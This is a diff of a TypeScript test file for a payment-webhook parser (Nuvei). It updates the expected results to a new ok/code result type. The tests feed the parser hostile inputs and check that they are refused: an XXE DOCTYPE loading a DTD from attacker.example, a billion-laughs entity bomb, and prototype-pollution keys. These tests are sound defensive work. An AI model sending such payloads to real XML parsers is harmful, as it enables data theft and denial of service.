@@ -6,7 +6,7 @@ import { nuvei } from "../src/providers/nuvei";
 import type { NuveiWebhook } from "../src/providers/nuvei/schema";
 import { nuveiPrecedence } from "../src/providers/nuvei/state";
 import { sortableTime } from "../src/providers/precedence";
-import { isParseFailure, type ParsedEvent, type ParseFailure } from "../src/providers/types";
+import type { ParseResult } from "../src/providers/types";
 import { consume, messageFor } from "./support/consumer";
 import { callGateway, deliver, NOW_S, recordingEnv, webhookRequest } from "./support/gateway";
 import { signedHeaders } from "./support/sign";
@@ -14,7 +14,7 @@ import { signedHeaders } from "./support/sign";
 const FORM = "application/x-www-form-urlencoded";
 
 /** The provider's own parse, as ingest calls it after verification. */
-async function parseAs(text: string, contentType: string): Promise<ParsedEvent | ParseFailure> {
+async function parseAs(text: string, contentType: string): Promise<ParseResult> {
   const body = new TextEncoder().encode(text);
   return nuvei.parse(text, {
     headers: new Headers({ "content-type": contentType }),
@@ -113,13 +113,13 @@ describe("Nuvei form bodies (issue 9 item 9)", () => {
     ["a truncated multi-byte sequence", "result.status=approved&buyerName=%C3"],
   ])("refuses %s instead of replacing it with U+FFFD", async (_name, text) => {
     const parsed = await parseAs(text, FORM);
-    expect(parsed).toEqual({ error: "payload_invalid", message: expect.stringMatching(/percent-encoding/) });
+    expect(parsed).toEqual({ ok: false, code: "payload_invalid", message: expect.stringMatching(/percent-encoding/) });
   });
 
   it("decodes valid escapes and + as before", async () => {
     const parsed = await parseAs("result.status=approved&buyerName=J%C3%BCrgen+M%C3%BCller&note=a%2Bb%3D", FORM);
-    if (isParseFailure(parsed)) throw new Error(parsed.message);
-    expect(JSON.parse(parsed.payloadJson)).toEqual({
+    if (!parsed.ok) throw new Error(parsed.message);
+    expect(JSON.parse(parsed.value.payloadJson)).toEqual({
       result: { status: "approved" },
       buyerName: "Jürgen Müller",
       note: "a+b=",
@@ -131,8 +131,8 @@ describe("Nuvei form bodies (issue 9 item 9)", () => {
       "result.status=approved&toString=1&valueOf=2&hasOwnProperty=3&isPrototypeOf=4" +
       "&result.toString=5&paymentOption.valueOf.hasOwnProperty=6";
     const parsed = await parseAs(text, FORM);
-    if (isParseFailure(parsed)) throw new Error(parsed.message);
-    expect(JSON.parse(parsed.payloadJson)).toEqual({
+    if (!parsed.ok) throw new Error(parsed.message);
+    expect(JSON.parse(parsed.value.payloadJson)).toEqual({
       result: { status: "approved", toString: "5" },
       toString: "1",
       valueOf: "2",
@@ -150,7 +150,7 @@ describe("Nuvei form bodies (issue 9 item 9)", () => {
       "result.status=approved&paymentOption.prototype.x=1",
       "result.status=approved&result.__proto__=1",
     ]) {
-      expect(await parseAs(text, FORM)).toMatchObject({ error: "payload_invalid" });
+      expect(await parseAs(text, FORM)).toMatchObject({ ok: false, code: "payload_invalid" });
     }
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
   });
@@ -320,8 +320,8 @@ describe("Nuvei XML webhooks (issue 10 item 2, contract §4)", () => {
 
   async function payloadOf(text: string, contentType = XML) {
     const parsed = await parseAs(text, contentType);
-    if (isParseFailure(parsed)) throw new Error(parsed.message);
-    return { parsed, payload: JSON.parse(parsed.payloadJson) as Record<string, unknown> };
+    if (!parsed.ok) throw new Error(parsed.message);
+    return { parsed: parsed.value, payload: JSON.parse(parsed.value.payloadJson) as Record<string, unknown> };
   }
 
   it("parses into the JSON webhook's shape, every value a string digit for digit", async () => {
@@ -382,22 +382,29 @@ describe("Nuvei XML webhooks (issue 10 item 2, contract §4)", () => {
       '<!doctype w [<!ENTITY % p SYSTEM "https://attacker.example/p.dtd"> %p;]><w/>',
     ]) {
       const parsed = await parseAs(xml, XML);
-      expect(parsed).toEqual({ error: "payload_invalid", message: expect.stringMatching(/DOCTYPE/i) });
+      expect(parsed).toEqual({ ok: false, code: "payload_invalid", message: expect.stringMatching(/DOCTYPE/i) });
     }
   });
 
   it("refuses a billion-laughs document before expanding anything", async () => {
     const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("");
     const xml = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${lols}]><lolz><result><status>&lol9;</status></result></lolz>`;
-    expect(await parseAs(xml, XML)).toEqual({ error: "payload_invalid", message: expect.stringMatching(/DOCTYPE/) });
+    expect(await parseAs(xml, XML)).toEqual({
+      ok: false,
+      code: "payload_invalid",
+      message: expect.stringMatching(/DOCTYPE/),
+    });
     // An entity declaration smuggled anywhere else is refused too.
-    expect(await parseAs('<w><![CDATA[<!ENTITY x "y">]]></w>', XML)).toMatchObject({ error: "payload_invalid" });
+    expect(await parseAs('<w><![CDATA[<!ENTITY x "y">]]></w>', XML)).toMatchObject({
+      ok: false,
+      code: "payload_invalid",
+    });
   });
 
   it("refuses an undeclared entity reference instead of keeping or expanding it", async () => {
     for (const reference of ["&xxe;", "&lol9;", "&nbsp;", "&#0;", "&#xD800;", "&#x110000;"]) {
       const xml = `<w><result><status>approved</status></result><buyer>a${reference}b</buyer></w>`;
-      expect(await parseAs(xml, XML)).toMatchObject({ error: "payload_invalid" });
+      expect(await parseAs(xml, XML)).toMatchObject({ ok: false, code: "payload_invalid" });
     }
   });
 
@@ -419,13 +426,13 @@ describe("Nuvei XML webhooks (issue 10 item 2, contract §4)", () => {
     ["no result.status", "<w><transactionId>1</transactionId></w>"],
     ["a transactionId of 257 characters", `<w><transactionId>${"1".repeat(257)}</transactionId></w>`],
   ])("refuses %s", async (_name, xml) => {
-    expect(await parseAs(xml, XML)).toMatchObject({ error: "payload_invalid", message: expect.any(String) });
+    expect(await parseAs(xml, XML)).toMatchObject({ ok: false, code: "payload_invalid", message: expect.any(String) });
     expect(({} as Record<string, unknown>).x).toBeUndefined();
   });
 
   it("accepts nesting up to the JSON depth bound", async () => {
     const xml = `<w><result><status>approved</status></result>${"<a>".repeat(63)}1${"</a>".repeat(63)}</w>`;
-    expect(isParseFailure(await parseAs(xml, XML))).toBe(false);
+    expect((await parseAs(xml, XML)).ok).toBe(true);
   });
 
   it("through ingest and the consumer, XML drives the transaction state as JSON does", async () => {
